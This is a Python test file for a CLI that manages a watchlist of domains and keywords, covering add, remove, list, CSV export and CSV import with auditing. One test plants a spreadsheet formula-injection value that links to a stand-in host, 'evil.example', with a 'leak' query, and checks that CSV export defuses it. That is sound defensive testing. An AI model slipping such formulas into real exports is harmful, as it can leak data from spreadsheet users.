"""``python -m store watch``: add, remove, list and import, against the session's sandbox server and a
real database (SQLite and PostgreSQL), as a script or a person at a terminal would run it."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from client.settings import key_fingerprint
from sandbox import DEMO_KEY
from sandbox.accounts import ACCOUNTS
from sandbox.keyword_data import serp_on
from store import HistoryStore
from tests.sandbox_picks import new_domain
from tests.store.commands import StoreCommand

ACCOUNT = key_fingerprint(DEMO_KEY)
OWN_SITES = ACCOUNTS[DEMO_KEY].sites
RIVAL = "semrush.com"


@pytest.fixture
def run(store_url: str, demo_command: StoreCommand) -> StoreCommand:
    """``python -m store watch …`` with the demo key and this test's database: (exit code, stdout, stderr)."""
    return lambda *args: demo_command("watch", *args, "--database-url", store_url)


def _own_sites_known(store_url: str) -> None:
    with HistoryStore.open(store_url) as store:
        for site in OWN_SITES:
            store.watchlist.watch(ACCOUNT, "domain", site, origin="own")


def test_add_watches_a_listed_domain_records_today_at_once_and_is_audited(run, store_url: str) -> None:
    code, out, err = run("add", "domain", f"https://www.{RIVAL.upper()}/pricing")
    assert code == 0, err
    assert f"Watching {RIVAL}" in out and f"{RIVAL}: recorded" in err
    with HistoryStore.open(store_url) as store:
        assert store.watchlist.is_watched(ACCOUNT, "domain", RIVAL)
        assert len(store.queries.domain_history(ACCOUNT, [RIVAL])) == 1  # its History is never empty
        assert len(store.queries.trust_map_days(ACCOUNT, RIVAL)) == 1
        events = store.audit.events(ACCOUNT)
    assert events[["person", "operation", "target", "outcome"]].values.tolist() == [
        ["command line", "watch", RIVAL, "done"]
    ]
    code, out, _err = run("add", "domain", RIVAL)
    assert code == 0 and out.strip() == f"{RIVAL} was already watched."


def test_add_refuses_a_domain_the_service_does_not_list_with_exit_2(run, store_url: str) -> None:
    unlisted = new_domain("cli-unlisted-", listed=False)
    code, _out, err = run("add", "domain", unlisted)
    assert code == 2
    assert f"Not watched: {unlisted} is not a listed site on VerifiedDR" in err
    with HistoryStore.open(store_url) as store:
        assert not store.watchlist.is_watched(ACCOUNT, "domain", unlisted)


def test_add_watches_a_keyword_for_its_site_and_records_its_position(run, store_url: str) -> None:
    places = {row.domain: row.position for row in serp_on("cold brew coffee")}  # the sandbox's day
    site = next(s for s in OWN_SITES if s in places)
    code, _out, err = run("add", "keyword", "Cold  Brew Coffee", "--site", site)
    assert code == 0, err
    with HistoryStore.open(store_url) as store:
        assert store.watchlist.is_watched(ACCOUNT, "keyword", "cold brew coffee", site=site)
        assert store.queries.keyword_history(ACCOUNT, site)["position"].tolist() == [places[site]]


def test_a_keyword_without_a_site_asks_for_one_when_the_account_has_several(run, store_url: str) -> None:
    _own_sites_known(store_url)
    code, _out, err = run("add", "keyword", "cold brew coffee")
    assert code == 2
    assert "say which site the keyword is measured for, with --site DOMAIN (your sites: " in err
    code, _out, err = run("add", "domain", RIVAL, "--site", OWN_SITES[0])
    assert code == 2 and "--site is for keywords" in err


def test_remove_stops_watching_and_keeps_own_sites(run, store_url: str) -> None:
    _own_sites_known(store_url)
    assert run("add", "domain", RIVAL)[0] == 0
    code, out, _err = run("remove", "domain", RIVAL)
    assert code == 0 and "No longer watching semrush.com" in out
    code, out, _err = run("remove", "domain", RIVAL)
    assert code == 0 and "was not watched" in out
    code, _out, err = run("remove", "domain", OWN_SITES[0])
    assert code == 2 and "one of your own sites" in err
    with HistoryStore.open(store_url) as store:
        assert not store.watchlist.is_watched(ACCOUNT, "domain", RIVAL)
        assert store.queries.domain_history(ACCOUNT, [RIVAL])["domain"].tolist() == [RIVAL]  # history stays


def test_list_shows_every_subject_with_its_site_and_as_csv(run, store_url: str) -> None:
    _own_sites_known(store_url)
    with HistoryStore.open(store_url) as store:
        store.watchlist.watch(ACCOUNT, "keyword", "cold brew coffee", site="northwind-coffee.com")
        store.watchlist.watch(ACCOUNT, "keyword", "old keyword")  # watched before keywords had a site
    code, out, _err = run("list")
    assert code == 0
    assert 'keyword "cold brew coffee" for northwind-coffee.com' in out
    assert 'keyword "old keyword" for site unknown' in out
    code, out, _err = run("list", "--csv")
    lines = out.strip().splitlines()
    assert lines[0] == "kind,subject,site,origin,added_at"
    assert any(line.startswith("keyword,cold brew coffee,northwind-coffee.com,added,") for line in lines)
    assert any(line.startswith(f"domain,{OWN_SITES[0]},,own,") for line in lines)


def test_list_as_csv_defuses_a_subject_a_spreadsheet_would_run(run, store_url: str) -> None:
    hostile = '=HYPERLINK("http://evil.example/?leak","click")'
    with HistoryStore.open(store_url) as store:
        store.watchlist.watch(ACCOUNT, "keyword", hostile, site="northwind-coffee.com")
        store.watchlist.watch(ACCOUNT, "keyword", "-1+2", site="northwind-coffee.com")
        stored = sorted(item.subject for item in store.watchlist.entries(ACCOUNT))
    code, out, _err = run("list", "--csv")
    assert code == 0
    subjects = sorted(row["subject"] for row in csv.DictReader(io.StringIO(out)))
    assert subjects == sorted("'" + subject for subject in stored)


def test_import_keeps_the_good_rows_and_names_each_bad_one_by_its_line(
    run, store_url: str, tmp_path: Path
) -> None:
    unlisted = new_domain("cli-import-unlisted-", listed=False)
    csv_file = tmp_path / "watch.csv"
    csv_file.write_text(
        "kind,subject,site\n"
        f"domain,{RIVAL},\n"  # line 2
        "domain,not a domain,\n"  # line 3
        "keyword,cold brew coffee,northwind-coffee.com\n"  # line 4
        f"domain,{unlisted},\n"  # line 5
        "page,example.com,\n"  # line 6
        f"domain,https://{RIVAL}/x,\n"  # line 7: the same as line 2
        "keyword,crm software,not a site\n",  # line 8
        encoding="utf-8",
    )
    code, out, err = run("import", str(csv_file))
    assert code == 1
    assert out.strip().splitlines()[-1] == "watched 2, already watched 0, refused 4"
    refused = sorted(line.split(":")[0] for line in err.splitlines() if line.startswith("line "))
    assert refused == ["line 3", "line 5", "line 6", "line 8"]
    assert f"line 5: not watched: {unlisted} is not a listed site on VerifiedDR" in err
    with HistoryStore.open(store_url) as store:
        assert store.watchlist.is_watched(ACCOUNT, "domain", RIVAL)
        assert store.watchlist.is_watched(ACCOUNT, "keyword", "cold brew coffee", site="northwind-coffee.com")
        assert not store.watchlist.is_watched(ACCOUNT, "domain", unlisted)
        assert len(store.queries.domain_history(ACCOUNT, [RIVAL])) == 1
    code, out, _err = run("import", str(csv_file))
    assert out.strip().splitlines()[-1] == "watched 0, already watched 2, refused 4"


def test_import_tags_keywords_from_its_tags_column_and_audits_each_change(
    run, store_url: str, tmp_path: Path
) -> None:
    csv_file = tmp_path / "watch.csv"
    csv_file.write_text(
        "kind,subject,site,tags\n"
        "keyword,cold brew coffee,northwind-coffee.com,Coffee; Blog\n"  # line 2
        "keyword,website heatmap tool,example.com,\n"  # line 3: no tags, none given
        "keyword,cookie free analytics,example.com,<b>bold</b>\n",  # line 4: not a tag
        encoding="utf-8",
    )
    code, out, err = run("import", str(csv_file))
    assert code == 1, err
    assert out.strip().splitlines()[-1] == "watched 3, already watched 0, refused 1"
    assert "line 4: tags not kept: a tag is a short label" in err
    with HistoryStore.open(store_url) as store:
        assert store.groups.keyword_tags(ACCOUNT) == {"cold brew coffee": ("blog", "coffee")}
        audited = store.audit.events(ACCOUNT, operation="tag_keyword")
    assert audited["target"].tolist() == ["“cold brew coffee”: coffee, blog"]
    assert audited["person"].tolist() == ["command line"]


def test_import_of_a_file_without_the_columns_says_what_the_first_line_must_be(run, tmp_path: Path) -> None:
    csv_file = tmp_path / "watch.csv"
    csv_file.write_text("semrush.com\nmoz.com\n", encoding="utf-8")
    code, _out, err = run("import", str(csv_file))
    assert code == 2 and "the first line must name the columns kind,subject,site" in err
    code, _out, err = run("import", str(tmp_path / "missing.csv"))
    assert code == 2 and "cannot be read" in err
